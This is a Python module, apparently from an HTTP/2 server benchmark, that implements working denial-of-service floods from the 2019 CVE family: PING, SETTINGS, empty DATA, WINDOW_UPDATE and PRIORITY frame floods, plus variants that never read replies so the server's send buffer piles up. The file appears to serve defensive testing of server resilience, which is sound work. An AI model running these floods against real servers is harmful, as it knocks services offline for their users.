"""Floods of small frames that each cost the server work and the attacker nothing.

The 2019 family of HTTP/2 denial-of-service reports (Netflix, CVE-2019-9511
to -9518): a frame the server must answer or process, sent by the hundred
thousand. Each flood here is one connection: the preface and SETTINGS
exchange (RFC 9113 §3.4), then `size` identical frames written as fast as the
socket takes them.

* PING flood, CVE-2019-9512: every PING wants a PING ACK (§6.7).
* SETTINGS flood, CVE-2019-9515: every SETTINGS wants an ACK (§6.5.3).
* empty DATA frames, CVE-2019-9518: zero-length DATA on an open request, no
  flow-control cost at all (§6.9.1 counts only payload).
* WINDOW_UPDATE(+1) flood on the connection (§6.9): the "resource loop"
  family (CVE-2019-9511, -9517) makes the server rethink its windows each time.
* PRIORITY flood, CVE-2019-9513: PRIORITY frames for ever new idle streams
  (§5.3.2 deprecates the scheme, a server must still parse them).

The "never reads" variants shrink the attacker's receive buffer and never
read: the ACKs pile up in the server's send buffer, and a server that keeps
reading would have to keep them all.
"""

from __future__ import annotations

import struct

from benchmarks.attacks.attacker import Attacker
from benchmarks.attacks.describe import answers, ending
from benchmarks.attacks.model import Context, Outcome
from benchmarks.attacks.wire import (
    DATA,
    PING,
    PRIORITY,
    SETTINGS,
    encode_frame,
    headers_frame,
    request_block,
    window_update,
)

__all__ = ["data_flood", "ping_flood", "priority_flood", "settings_flood", "window_update_flood"]

#: The attacker's receive buffer when it never reads (the kernel doubles it).
TINY_RCVBUF = 4096


def flood(ctx: Context, frame: bytes, *, read: bool = True, setup: bytes = b"") -> Outcome:
    """`ctx.size` copies of `frame` after the handshake (and `setup`), then read or wait."""
    attacker = Attacker(ctx, rcvbuf=None if read else TINY_RCVBUF)
    try:
        attacker.handshake(setup)
        handshake = dict(attacker.scanner.counts)
        written = attacker.pour(frame * ctx.size, seconds=ctx.seconds, read=read)
        frames = written // len(frame)
        attacker.wait_quiet(ctx, attacker.time_left(ctx), read=read)
        if not read and attacker.stalled_at is not None:
            attacker.wait_closed(attacker.time_left(ctx), read=False)
        return _outcome(ctx, attacker, frames, handshake, read)
    finally:
        attacker.close()


def _outcome(
    ctx: Context, attacker: Attacker, frames: int, handshake: dict[int, int], read: bool
) -> Outcome:
    ended = ending(attacker, frames, "frames sent")
    got = answers(attacker.scanner, skip=handshake) if read else "nothing read"
    if attacker.stalled_at is not None:
        state = f"closed after {attacker.open_for:.1f} s" if attacker.closed else "still open"
        text = f"server stopped reading after {frames:,} frames; {state}"
    elif ended:
        text = ended
    else:
        text = f"all {frames:,} frames taken; got {got}"
    server_ended = attacker.scanner.goaway is not None or attacker.closed
    stopped = frames < ctx.size and (server_ended or attacker.stalled_at is not None)
    return Outcome(
        text,
        frames,
        stopped=stopped,
        held=attacker.open_for if attacker.closed else None,
        details={"answers": got, "stalled": attacker.stalled_at is not None},
    )


def ping_flood(ctx: Context) -> Outcome:
    return flood(ctx, encode_frame(PING, 0, 0, b"attacker"))


def ping_flood_unread(ctx: Context) -> Outcome:
    return flood(ctx, encode_frame(PING, 0, 0, b"attacker"), read=False)


def settings_flood(ctx: Context) -> Outcome:
    return flood(ctx, encode_frame(SETTINGS, 0, 0, b""))


def settings_flood_unread(ctx: Context) -> Outcome:
    return flood(ctx, encode_frame(SETTINGS, 0, 0, b""), read=False)


def data_flood(ctx: Context) -> Outcome:
    """Empty DATA frames on one request that never ends (a POST still arriving)."""
    opening = headers_frame(1, request_block("/echo", "POST"), end_stream=False)
    return flood(ctx, encode_frame(DATA, 0, 1, b""), setup=opening)


def window_update_flood(ctx: Context) -> Outcome:
    """WINDOW_UPDATE(+1) on the connection; `size` stays far below the 2^31-1 limit."""
    return flood(ctx, window_update(0, 1))


def priority_flood(ctx: Context) -> Outcome:
    """PRIORITY for ever new idle streams (odd ids 1, 3, 5, ...), each on stream 0."""
    frames = b"".join(
        encode_frame(PRIORITY, 0, stream_id, struct.pack(">IB", 0, 15))
        for stream_id in range(1, 2 * ctx.size, 2)
    )
    attacker = Attacker(ctx)
    try:
        attacker.handshake()
        handshake = dict(attacker.scanner.counts)
        written = attacker.pour(frames, seconds=ctx.seconds)
        attacker.wait_quiet(ctx, attacker.time_left(ctx))
        return _outcome(ctx, attacker, written // 14, handshake, True)
    finally:
        attacker.close()
